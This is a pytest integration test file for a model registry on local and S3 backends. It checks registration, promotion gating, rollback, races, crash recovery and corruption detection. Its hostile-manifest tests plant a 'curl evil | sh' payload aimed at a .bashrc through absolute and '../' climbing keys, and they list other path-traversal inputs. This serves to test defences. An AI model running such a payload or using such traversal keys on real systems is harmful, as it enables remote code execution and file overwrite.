"""Registry protocol (tutorforge/registry/{store,registry,aliases,gate}.py) on both backends, the local dir and a
real moto S3 server: register/list/download, idempotency, promotion gate, rollback, history, racing registrations,
a crash mid-upload, corrupted objects, alias CAS conflicts, hostile manifests (keys that are absolute or climb out,
planted straight into the storage: nothing is ever written outside the destination), a real HF model round trip.
Faults are injected by store wrappers (tests/support/registry_faults.py), hostile content by
tests/support/registry_hostile.py; the CLI, the register stage and the DVC remote are in test_registry_cli.py."""

from __future__ import annotations

import json
import os
import re
import shutil
import tempfile
import threading
import uuid
from pathlib import Path

import pytest

from tests.support.registry_data import GATE, make_artifacts, new_bucket, write_params
from tests.support.registry_faults import CrashAfterUploads, InjectedCrash, InterferingStore
from tests.support.registry_hostile import METRICS, UPLOAD_ID, plant_manifest, plant_object, plant_version, tree
from tutorforge.registry.gate import promote
from tutorforge.registry.registry import Registry, VersionConflict
from tutorforge.registry.store import LocalStore, RegistryError, S3Store, Transfer, VerificationError

pytestmark = pytest.mark.integration
SMALL = Transfer(multipart_threshold_mb=5, multipart_chunksize_mb=5, max_concurrency=4, max_files_parallel=4)


@pytest.fixture(params=["local", "s3"])
def open_reg(request, tmp_path):
    """A factory of Registry objects on ONE fresh store (local dir or a new moto bucket)."""
    if request.param == "local":
        loc = tmp_path / "registry"
        return lambda **kw: Registry(LocalStore(loc, SMALL), **kw)
    server = request.getfixturevalue("s3_server")
    uri = f"s3://{new_bucket(server)}/team/registry"
    return lambda **kw: Registry(S3Store(uri, server.url, SMALL), **kw)


def test_register_list_download_idempotent(open_reg, tmp_path):
    reg = open_reg()
    src1 = make_artifacts(tmp_path / "a1", 2.0, big=6 * 2**20 if isinstance(reg.store, S3Store) else 0)
    v, created = reg.register("tutor", src1, {"README.md": b"card"}, lineage_summary={"git_commit": "abc"})
    assert (v, created) == ("v1", True)
    assert reg.register("tutor", src1, {"README.md": b"card changed"}) == ("v1", False)  # same payload
    v2, created2 = reg.register("tutor", make_artifacts(tmp_path / "a2", 1.9, tag="b"))
    assert (v2, created2) == ("v2", True)
    assert reg.models() == ["tutor"] and reg.versions("tutor") == ["v1", "v2"]
    m = reg.manifest("tutor", "v1")
    assert {"README.md", "metrics.json", "sft/merged/config.json", "tokenizer/config.json"} <= set(m["files"])
    assert m["lineage"] == {"git_commit": "abc"} and m["version"] == "v1"
    assert reg.verify("tutor", "v1") == []
    out = reg.download("tutor", "v1", tmp_path / "dl")
    for rel in m["files"]:
        if rel != "README.md":
            local = (
                src1["metrics.json"] if rel == "metrics.json" else src1[rel.rsplit("/", 1)[0]] / rel.rsplit("/", 1)[1]
            )
            assert (out / rel).read_bytes() == local.read_bytes(), rel
    with pytest.raises(RegistryError, match="not empty"):
        reg.download("tutor", "v1", tmp_path / "dl")
    with pytest.raises(VersionConflict, match="already registered"):
        reg.register("tutor", make_artifacts(tmp_path / "a3", 1.5, tag="c"), version="v1")


def test_promote_gate_rollback_history(open_reg, tmp_path):
    reg = open_reg()
    for i, loss in enumerate((2.0, 1.9, 1.89)):
        reg.register("tutor", make_artifacts(tmp_path / f"a{i}", loss, tag=str(i)))
    floor = [{**GATE[0], "threshold": 1.95}]
    ok, reasons = promote(reg, "tutor", "v1", floor)  # first production: absolute floor only
    assert not ok and "fails threshold" in reasons[0] and reg.alias("tutor", "production") is None
    assert promote(reg, "tutor", "v1", GATE)[0]  # no floor, no production yet -> promoted
    ok, reasons = promote(reg, "tutor", "v2", GATE)
    assert ok and "beats production" in reasons[0]
    ok, reasons = promote(reg, "tutor", "v3", GATE)  # 1.89 vs 1.9: improvement 0.01 < margin 0.02
    assert not ok and "does not beat" in reasons[0]
    assert reg.resolve("tutor", "production") == "v2"
    assert reg.rollback("tutor", "production", reason="bad answers")["version"] == "v1"
    with pytest.raises(RegistryError, match="no previous version"):
        reg.rollback("tutor", "production")
    hist = reg.history("tutor", "production")
    assert [(h["from"], h["to"], h["action"]) for h in hist] == [
        (None, "v1", "promote"),
        ("v1", "v2", "promote"),
        ("v2", "v1", "rollback"),
    ]
    assert hist[-1]["reason"] == "bad answers" and all(h["by"] and h["at"] for h in hist)


def test_race_for_the_same_version(open_reg, tmp_path):
    srcs = [make_artifacts(tmp_path / f"r{i}", 2.0 - i / 10, tag=f"r{i}") for i in range(2)]
    barrier, results = threading.Barrier(2), {}

    def go(i: int) -> None:
        reg = open_reg()
        barrier.wait()
        try:
            results[i] = reg.register("tutor", srcs[i], version="v1")
        except VersionConflict as e:
            results[i] = e

    threads = [threading.Thread(target=go, args=(i,)) for i in range(2)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(120)
    wins = [i for i, r in results.items() if r == ("v1", True)]
    losses = [r for r in results.values() if isinstance(r, VersionConflict)]
    assert len(wins) == 1 and len(losses) == 1, results
    assert "v1" in str(losses[0])
    reg = open_reg()
    assert reg.versions("tutor") == ["v1"] and reg.verify("tutor", "v1", deep=True) == []
    winner_tag = json.loads(reg.read_file("tutor", "v1", "sft/merged/config.json"))["tag"]
    assert winner_tag == f"r{wins[0]}"


def test_crash_mid_upload_leaves_nothing_visible(open_reg, tmp_path):
    reg = open_reg()
    crashing = CrashAfterUploads(reg.store, 3)
    with pytest.raises(InjectedCrash):
        Registry(crashing).register("tutor", make_artifacts(tmp_path / "c", 2.0))
    assert crashing.started == 3 and reg.versions("tutor") == []
    assert any("/objects/" in k for k in reg.store.list("models/tutor/"))  # orphans exist, but are invisible
    with pytest.raises(RegistryError):
        reg.resolve("tutor", "v1")
    with pytest.raises(VersionConflict, match="being registered"):  # fresh claim of the crashed upload
        reg.register("tutor", make_artifacts(tmp_path / "d", 1.8, tag="d"), version="v1")
    v, created = open_reg(claim_ttl_s=0).register("tutor", make_artifacts(tmp_path / "e", 1.7, tag="e"))
    assert (v, created) == ("v1", True)  # stale claim taken over
    assert reg.verify("tutor", "v1", deep=True) == []


def test_corrupted_object_is_refused_by_download(open_reg, tmp_path):
    from typer.testing import CliRunner

    from tutorforge.cli.app import app

    reg = open_reg()
    reg.register("tutor", make_artifacts(tmp_path / "a", 2.0))
    m = reg.manifest("tutor", "v1")
    key = f"models/tutor/v1/{m['objects']}/sft/merged/model.safetensors"
    reg.store.upload_file(
        _write(tmp_path / "evil", os.urandom(m["files"]["sft/merged/model.safetensors"]["size"])), key
    )
    dest = tmp_path / "out" / "model"
    with pytest.raises(VerificationError, match="corrupted"):
        reg.download("tutor", "v1", dest)
    assert not dest.exists() and list((tmp_path / "out").iterdir()) == []  # temp dir removed too
    params = write_params(tmp_path)
    env = {"TUTORFORGE_S3_ENDPOINT_URL": reg.store.endpoint_url} if isinstance(reg.store, S3Store) else {}
    res = CliRunner().invoke(
        app,
        ["registry", "download", "v1", str(dest), "--registry", reg.store.uri(""), "--params", str(params)],
        env=env,
    )
    assert res.exit_code == 1 and "corrupted" in res.output and not dest.exists()
    res = CliRunner().invoke(
        app, ["registry", "show", "v1", "--verify", "--registry", reg.store.uri(""), "--params", str(params)], env=env
    )
    assert res.exit_code == 1 and "failed verification" in res.output


def test_alias_cas_conflict_retried_or_reported(open_reg, tmp_path):
    racy = InterferingStore(open_reg().store)  # its callback is the other writer, between our read and our CAS write
    reg, other = Registry(racy, alias_retries=3), open_reg()
    for i in range(3):
        reg.register("tutor", make_artifacts(tmp_path / f"a{i}", 2.0 - i / 10, tag=str(i)))
    reg.point("tutor", "staging", "v1", "init")
    interfered = []

    def once(name: str, alias: str) -> None:  # a concurrent writer lands between our read and our write
        if not interfered:
            interfered.append(1)
            other.point(name, alias, "v2", "concurrent")

    racy.before_alias_put = once
    new = reg.point("tutor", "staging", "v3", "mine")
    assert new["version"] == "v3" and new["previous"] == "v2"  # re-read after the 412, then won
    assert [h["to"] for h in reg.history("tutor", "staging")] == ["v1", "v2", "v3"]
    reg.alias_retries = 1
    racy.before_alias_put = lambda name, alias: other.point(
        name, alias, other.alias(name, alias)["stack"][-2], "always in the way"
    )
    with pytest.raises(RegistryError, match="gave up after 2"):
        reg.point("tutor", "staging", "v1", "mine again")


@pytest.mark.parametrize(
    ("kind", "checksum_ok"), [("absolute", True), ("absolute", False), ("climbing", True), ("climbing", False)]
)
def test_hostile_manifest_key_writes_nothing_outside_dest(open_reg, tmp_path, kind, checksum_ok):
    """A manifest key that is an absolute path (`/home/u/.bashrc`) or climbs out of the download folder is refused
    before any byte is written: the file it aims at stays byte-identical, whether its checksum matches or not."""
    reg = open_reg()
    home = tmp_path / "home"
    (home / "models").mkdir(parents=True)
    (home / ".bashrc").write_bytes(b"export PATH=/usr/bin\n")
    dest = home / "models" / "tutor"  # the temp folder is a sibling of dest: models/.tutor.*.part
    key = str(home / ".bashrc") if kind == "absolute" else "sft/../../../.bashrc"
    plant_version(
        reg.store,
        "tutor",
        "v1",
        {"metrics.json": METRICS, key: b"curl evil | sh\n"},
        wrong_checksum=() if checksum_ok else (key,),
    )
    before = tree(home)
    for attempt in (lambda: reg.download("tutor", "v1", dest), lambda: reg.verify("tutor", "v1", deep=True)):
        with pytest.raises(VerificationError) as err:
            attempt()
        msg = str(err.value)
        assert repr(key) in msg and "tutor:v1" in msg and "\n" not in msg, msg
        assert tree(home) == before  # sentinel intact, no dest, no temp folder left
    with pytest.raises(VerificationError, match=re.escape(repr(key))):
        reg.read_file("tutor", "v1", key)
    with pytest.raises(VerificationError, match=re.escape(repr(key))):
        reg.download("tutor", "v1", tmp_path / "elsewhere")
    assert not (tmp_path / "elsewhere").exists() and tree(home) == before


@pytest.mark.parametrize(
    "bad",
    [
        ("/no-such-dir-tutorforge/x",),
        ("../x",),
        ("sft/../../x",),
        ("..",),
        ("sft\\..\\..\\x",),
        ("a\x00b",),
        ("sft//x",),
        ("./x",),
        ("sft/./x",),
        ("",),
        ("sft/",),
        ("line\nbreak",),
        ("manifest.json",),  # download writes the manifest there
        ("sft", "sft/x"),  # a file and a folder of the same name
    ],
)
def test_manifest_key_set_is_checked_before_anything_is_written(open_reg, tmp_path, bad):
    reg = open_reg()
    good = {"metrics.json": METRICS, "a/config.json": b"{}"}
    plant_version(reg.store, "tutor", "v1", good)
    plant_manifest(reg.store, "tutor", "v1", {**good, **{k: b"x" for k in bad}})  # every good object is there
    out = tmp_path / "out"
    with pytest.raises(VerificationError) as err:
        reg.download("tutor", "v1", out / "model")
    assert repr(bad[-1]) in str(err.value) or repr(bad[0]) in str(err.value), err.value
    assert "\n" not in str(err.value) and not out.exists()  # refused before even creating the parent
    with pytest.raises(VerificationError):
        reg.verify("tutor", "v1")
    with pytest.raises(VerificationError):
        reg.read_file("tutor", "v1", "metrics.json")


def test_hostile_objects_prefix_alias_and_register_keys_are_refused(open_reg, tmp_path):
    """The other data that becomes keys: the manifest's `objects` prefix, an alias record's version, and the
    registry paths a registration is asked to upload (refused before anything is claimed or uploaded)."""
    reg = open_reg()
    plant_version(reg.store, "tutor", "v1", {"metrics.json": METRICS})
    for objects in ("objects/../../v2/objects/x", "/objects/x", "objects", "objects/a/b", "../objects/x"):
        plant_manifest(reg.store, "tutor", "v1", {"metrics.json": METRICS}, objects=objects)
        with pytest.raises(VerificationError, match=re.escape(repr(objects))):
            reg.download("tutor", "v1", tmp_path / "out" / "m")
        assert not (tmp_path / "out").exists()
    plant_manifest(reg.store, "tutor", "v1", {"metrics.json": METRICS})
    assert reg.verify("tutor", "v1", deep=True) == []  # the planted version itself is fine
    for bad_version in ("../../elsewhere", "v1\n"):  # `$` alone would let the newline through
        record = {"alias": "production", "name": "tutor", "version": bad_version, "stack": []}
        plant_object(reg.store, "models/tutor/aliases/production.json", json.dumps(record).encode())
        with pytest.raises(RegistryError, match=re.escape(repr(bad_version))):
            reg.download("tutor", "production", tmp_path / "out" / "m")
        assert not (tmp_path / "out").exists()
    src = make_artifacts(tmp_path / "a")
    escaped = Path(tempfile.gettempdir()) / f"escape-{uuid.uuid4().hex}.txt"  # where ../<name> from the temp dir lands
    for sources, extra in (({**src, "../escape": src["tokenizer"]}, {}), (src, {f"../{escaped.name}": b"x"})):
        with pytest.raises(RegistryError, match="escape"):
            reg.register("tutor", sources, extra, version="v2")
        assert reg.versions("tutor") == ["v1"] and reg.store.list("models/tutor/v2/") == []
    written = escaped.exists()
    escaped.unlink(missing_ok=True)
    assert not written
    assert [k for k in reg.store.list("models/tutor/v1/") if UPLOAD_ID not in k] == ["models/tutor/v1/manifest.json"]


def test_local_store_keys_never_follow_a_symlink_out_of_the_root(tmp_path):
    """A symlink planted inside a local registry (models/tutor -> elsewhere) is refused for reads and writes alike:
    a registration does not write through it, a download does not read through it."""
    outside = tmp_path / "outside"
    (outside / "v1").mkdir(parents=True)
    (outside / "v1" / "manifest.json").write_text("{}")
    root = tmp_path / "registry"
    (root / "models").mkdir(parents=True)
    (root / "models" / "tutor").symlink_to(outside)
    before = tree(outside)
    reg = Registry(LocalStore(root))
    with pytest.raises(RegistryError, match="resolves outside"):
        reg.register("tutor", make_artifacts(tmp_path / "a"), version="v2")
    with pytest.raises(RegistryError, match="resolves outside"):
        reg.download("tutor", "v1", tmp_path / "dl")
    assert tree(outside) == before and not (tmp_path / "dl").exists()


@pytest.mark.slow
def test_real_hf_model_roundtrip(s3_server, tmp_path):
    """A real save_pretrained model survives register -> download -> from_pretrained."""
    import torch
    from transformers import LlamaConfig, LlamaForCausalLM

    torch.manual_seed(0)
    cfg = LlamaConfig(
        vocab_size=64,
        hidden_size=16,
        intermediate_size=32,
        num_hidden_layers=1,
        num_attention_heads=2,
        num_key_value_heads=2,
        max_position_embeddings=32,
    )
    src = make_artifacts(tmp_path / "a")
    shutil.rmtree(src["sft/merged"])
    LlamaForCausalLM(cfg).save_pretrained(src["sft/merged"])
    reg = Registry(S3Store(f"s3://{new_bucket(s3_server)}/r", s3_server.url))
    reg.register("tutor", src)
    out = reg.download("tutor", "v1", tmp_path / "dl")
    model = LlamaForCausalLM.from_pretrained(out / "sft/merged")
    ref = LlamaForCausalLM.from_pretrained(src["sft/merged"])
    ids = torch.tensor([[1, 2, 3]])
    assert torch.equal(model(ids).logits, ref(ids).logits)


def _write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path
